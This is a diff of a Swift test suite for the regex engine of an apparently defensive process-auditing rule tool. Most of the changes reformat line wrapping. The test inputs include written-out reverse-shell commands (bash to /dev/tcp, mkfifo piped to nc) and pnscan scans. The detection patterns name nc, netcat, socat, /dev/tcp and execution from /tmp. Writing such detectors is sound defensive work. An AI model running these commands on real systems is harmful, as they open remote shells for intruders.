@@ -1,6 +1,7 @@
 import Foundation
-import Testing
 import TestSupport
+import Testing
+
 @testable import AuditreeRules
 
 /// Rule regexes run on `RegexProgram` (a Thompson NFA): the same answers as ICU on the
@@ -9,14 +10,20 @@ import TestSupport
 @Suite("Rule regex engine")
 struct RegexEngineTests {
     static let texts = [
-        "", "sh -c id", "/bin/sh -c uname -a", "bash -i", "bash -li", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
-        "java -cp x org.apache.catalina.startup.Bootstrap start", "java -jar app.war", "java -jar app.warx", "python3 -m gunicorn app:app",
+        "", "sh -c id", "/bin/sh -c uname -a", "bash -i", "bash -li",
+        "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
+        "java -cp x org.apache.catalina.startup.Bootstrap start", "java -jar app.war", "java -jar app.warx",
+        "python3 -m gunicorn app:app",
         "python -m pip install x", "node /srv/app/server.js", "node bin/www", "npx next start", "sh -c mkfifo /tmp/f",
-        "sh -c cat /tmp/f|nc 10.0.0.1 4444", "sh /tmp/x.sh", "/var/tmp/run", "sh -c ./tmp/x", "WEB-exec", "apache2", "httpd_exec",
+        "sh -c cat /tmp/f|nc 10.0.0.1 4444", "sh /tmp/x.sh", "/var/tmp/run", "sh -c ./tmp/x", "WEB-exec", "apache2",
+        "httpd_exec",
         "nginx-key", "webshell", "mywebthing", "/usr/lib/cgi-bin/x", "cgi-bin", "/srv/cgi-binx", "line one\nline two",
-        "ends with newline\n", "ends with crlf\r\n", "café crème", "CAFÉ", "ǅ title", "tab\there", "αβγ δ", "x_y z", "123 456",
-        "aaaaaaaaaaaaaaaaaaaaaaaa", "aaaaaaaaaaaaaaaaaaaaaaa!", "ab{2}", "a.b", "a\\b", "[x]", "e\u{301}", "\u{1F600} emoji",
-        "pnscan -W 'de ad be ef' 10.0.0.0/8 22", "pnscan -w \"de ad\" 1.2.3.4", "x -R 0a0b0c ", "curl -d x", "curl -D x", "ls -t a",
+        "ends with newline\n", "ends with crlf\r\n", "café crème", "CAFÉ", "ǅ title", "tab\there", "αβγ δ", "x_y z",
+        "123 456",
+        "aaaaaaaaaaaaaaaaaaaaaaaa", "aaaaaaaaaaaaaaaaaaaaaaa!", "ab{2}", "a.b", "a\\b", "[x]", "e\u{301}",
+        "\u{1F600} emoji",
+        "pnscan -W 'de ad be ef' 10.0.0.0/8 22", "pnscan -w \"de ad\" 1.2.3.4", "x -R 0a0b0c ", "curl -d x",
+        "curl -D x", "ls -t a",
         "\u{212A}ILL", "kill", "KILL", "\u{017F}ecret", "\u{0131}d", "\u{0131}D", "\u{0130}D", "TMP", "a - W",
     ]
 
@@ -24,18 +31,24 @@ struct RegexEngineTests {
         #"org\.apache\.catalina"#, #"org\.eclipse\.jetty|jetty-runner|start\.jar"#, #"(^| )-jar \S+\.war( |$)"#,
         #"(^| )-m (gunicorn|uvicorn|hypercorn|daphne|waitress|http\.server)( |$)|manage\.py runserver"#,
         #"(^| )\S*(server|app)\.[cm]?js( |$)|(^| )\S*bin/www( |$)|(^| )\S*(next|nuxt) start( |$)"#,
-        #"(^|/)cgi-bin(/|$)"#, #"(?i)(^|[^a-z])(web|www|httpd?|apache2?|nginx|php-?fpm|lighttpd|cgi|webshell)([^a-z]|$)"#,
+        #"(^|/)cgi-bin(/|$)"#,
+        #"(?i)(^|[^a-z])(web|www|httpd?|apache2?|nginx|php-?fpm|lighttpd|cgi|webshell)([^a-z]|$)"#,
         #"^\S+( -[A-Za-z]+)* -[A-Za-z]*i[A-Za-z]*( |$)"#, #"/dev/(tcp|udp)/"#, #"(^|[;&|( ])mkfifo( |$)"#,
         #"(^|[;&|( ])(nc|ncat|netcat|socat)( |$)"#, #"(^\S+ +|(^| )-c +|[;&|(`] *)(\./)?/(tmp|var/tmp|dev/shm)/"#,
-        #"(^| )/usr/share/debconf/"#, "^$", "$", "^", "a{2}", "a{2,}", "a{1,3}!", "^a{0,2}$", #"\d+"#, #"\w+ \w+"#, #"\s"#,
+        #"(^| )/usr/share/debconf/"#, "^$", "$", "^", "a{2}", "a{2,}", "a{1,3}!", "^a{0,2}$", #"\d+"#, #"\w+ \w+"#,
+        #"\s"#,
         #"\bone\b"#, #"\Bne"#, #"\D\W"#, #"[^a-z ]+"#, "(?i)café", "(?i)CAFÉ CRÈME", "(?i)ǆ", "[α-ω]+", #"\x41|\u00e9"#,
-        "(?m)^line two$", "(?m)one$", "line one.line", "(?s)line one.line", #"newline$"#, #"crlf$"#, #"crlf\Z"#, #"newline\z"#,
+        "(?m)^line two$", "(?m)one$", "line one.line", "(?s)line one.line", #"newline$"#, #"crlf$"#, #"crlf\Z"#,
+        #"newline\z"#,
         #"\Asome"#, "(?:ab|a)(?:c|b{2})", #"a\.b"#, #"a\\b"#, #"\[x\]"#, "[]x]", "[x-]", "[-x]", #"[\]]"#, #"[\d.]+"#,
-        "e\u{301}", "^.$", ".", "(a|b)*c?", "(?i:WEB)-exec", "(?i)web(?-i)-EXEC", "a*?", "a+?!", "(a*)*b", "(?#comment)sh",
+        "e\u{301}", "^.$", ".", "(a|b)*c?", "(?i:WEB)-exec", "(?i)web(?-i)-EXEC", "a*?", "a+?!", "(a*)*b",
+        "(?#comment)sh",
         #"\Qa.b\E"#, "😀", #"\x{1F600}"#,
         // Patterns with required literals (the prefilter in front of the NFA), cased and not.
-        #"-(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')"#, #"\s-[FTd]\s"#, "-D", "(?i)kill", "(?i)KILL", "(?i)secret",
-        "(?i)[s]ecret", "(?i)id", "(?i)ID", "(?i)[h-k]ill", "(?i)tmp|kill", "ki(?i)ll", "(ab|cd)ef", "x(a|b)?y", "(?:\\.[0-9]){2}",
+        #"-(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')"#, #"\s-[FTd]\s"#, "-D", "(?i)kill", "(?i)KILL",
+        "(?i)secret",
+        "(?i)[s]ecret", "(?i)id", "(?i)ID", "(?i)[h-k]ill", "(?i)tmp|kill", "ki(?i)ll", "(ab|cd)ef", "x(a|b)?y",
+        "(?:\\.[0-9]){2}",
     ]
 
     @Test("answers as ICU (NSRegularExpression) does on the syntax it supports", arguments: patterns)
@@ -106,10 +119,14 @@ struct RegexEngineTests {
         Literals(pattern: "(?:ab){2}", literals: ["abab"]),
     ]
 
-    @Test("required literals: joined across a concatenation, one per alternative, none from an optional part", arguments: literalCases)
+    @Test(
+        "required literals: joined across a concatenation, one per alternative, none from an optional part",
+        arguments: literalCases)
     func requiredLiterals(_ input: Literals) throws {
         let pattern = try TextPattern(input.pattern)
-        #expect(pattern.literals.map { Set($0.alternatives.map { String(decoding: $0, as: UTF8.self) }) } == input.literals.map(Set.init))
+        #expect(
+            pattern.literals.map { Set($0.alternatives.map { String(decoding: $0, as: UTF8.self) }) }
+                == input.literals.map(Set.init))
     }
 
     @Test("the non-ASCII scalars that match an ASCII letter under (?i) are in the prefilter's table")
@@ -119,7 +136,9 @@ struct RegexEngineTests {
             // What `ScalarSet.contains` reaches: the case forms, and theirs.
             let reached = ScalarSet.otherCases(of: scalar).flatMap { [$0] + ScalarSet.otherCases(of: $0) }
             for other in reached where other.isASCII {
-                #expect(RegexLiterals.caseMates(of: UInt8(other.value)).contains(scalar), "U+\(String(value, radix: 16)) -> \(other)")
+                #expect(
+                    RegexLiterals.caseMates(of: UInt8(other.value)).contains(scalar),
+                    "U+\(String(value, radix: 16)) -> \(other)")
             }
         }
     }
@@ -131,9 +150,11 @@ struct RegexEngineTests {
         #expect(pattern.matchWithSteps("pnscan -W 'de ad' 10.0.0.0/8").matched)
     }
 
-    @Test("with no thread alive, positions no match can start at cost one step each", arguments: [
-        #"/dev/(tcp|udp)/"#, #"(^|[;&|( ])(nc|ncat|netcat|socat)( |$)"#, #"org\.apache\.catalina"#,
-    ])
+    @Test(
+        "with no thread alive, positions no match can start at cost one step each",
+        arguments: [
+            #"/dev/(tcp|udp)/"#, #"(^|[;&|( ])(nc|ncat|netcat|socat)( |$)"#, #"org\.apache\.catalina"#,
+        ])
     func passesOverText(_ source: String) throws {
         let pattern = try TextPattern(source)
         let text = String(repeating: "x", count: 100_000) + " nc /dev/tcp/1.2.3.4/80 org.apache.catalina"
@@ -151,13 +172,22 @@ struct RegexEngineTests {
     }
 
     static let unsupported = [
-        Unsupported(pattern: #"(a)\1"#, message: "backreferences ('\\1') need backtracking and are not supported", offset: 3),
-        Unsupported(pattern: "a(?=b)", message: "lookaround ('(?=') needs backtracking and is not supported", offset: 1),
-        Unsupported(pattern: "a(?<!b)", message: "lookaround ('(?<!') needs backtracking and is not supported", offset: 1),
-        Unsupported(pattern: "(?>a+)b", message: "atomic groups ('(?>') need backtracking and are not supported", offset: 0),
-        Unsupported(pattern: "a++", message: "possessive quantifiers ('++') need backtracking and are not supported", offset: 2),
-        Unsupported(pattern: #"\p{L}"#, message: "Unicode properties ('\\p{...}') are not supported: use a class such as [a-z] or \\w", offset: 0),
-        Unsupported(pattern: "[[:alpha:]]", message: "nested sets and [:classes:] are not supported: write '\\[' to match a bracket", offset: 1),
+        Unsupported(
+            pattern: #"(a)\1"#, message: "backreferences ('\\1') need backtracking and are not supported", offset: 3),
+        Unsupported(
+            pattern: "a(?=b)", message: "lookaround ('(?=') needs backtracking and is not supported", offset: 1),
+        Unsupported(
+            pattern: "a(?<!b)", message: "lookaround ('(?<!') needs backtracking and is not supported", offset: 1),
+        Unsupported(
+            pattern: "(?>a+)b", message: "atomic groups ('(?>') need backtracking and are not supported", offset: 0),
+        Unsupported(
+            pattern: "a++", message: "possessive quantifiers ('++') need backtracking and are not supported", offset: 2),
+        Unsupported(
+            pattern: #"\p{L}"#,
+            message: "Unicode properties ('\\p{...}') are not supported: use a class such as [a-z] or \\w", offset: 0),
+        Unsupported(
+            pattern: "[[:alpha:]]",
+            message: "nested sets and [:classes:] are not supported: write '\\[' to match a bracket", offset: 1),
         Unsupported(pattern: "[a-z&&[^x]]", message: "set operations ('&&') are not supported", offset: 4),
         Unsupported(pattern: "(?x) a", message: "unsupported flag 'x' (supported: i, m, s)", offset: 2),
         Unsupported(pattern: #"\k<n>"#, message: "unsupported escape '\\k'", offset: 0),
@@ -200,8 +230,10 @@ struct RegexEngineTests {
             _ = try RuleFileParser.parse(yaml, file: "mine.yaml")
         } throws: { error in
             guard let error = error as? RuleFileError else { return false }
-            #expect(error.description == "mine.yaml:8:39: error: rules[0].child.argv_regex: invalid regular expression '(a)\\1': "
-                + "backreferences ('\\1') need backtracking and are not supported (at offset 3)", "\(error)")
+            #expect(
+                error.description
+                    == "mine.yaml:8:39: error: rules[0].child.argv_regex: invalid regular expression '(a)\\1': "
+                    + "backreferences ('\\1') need backtracking and are not supported (at offset 3)", "\(error)")
             return true
         }
     }
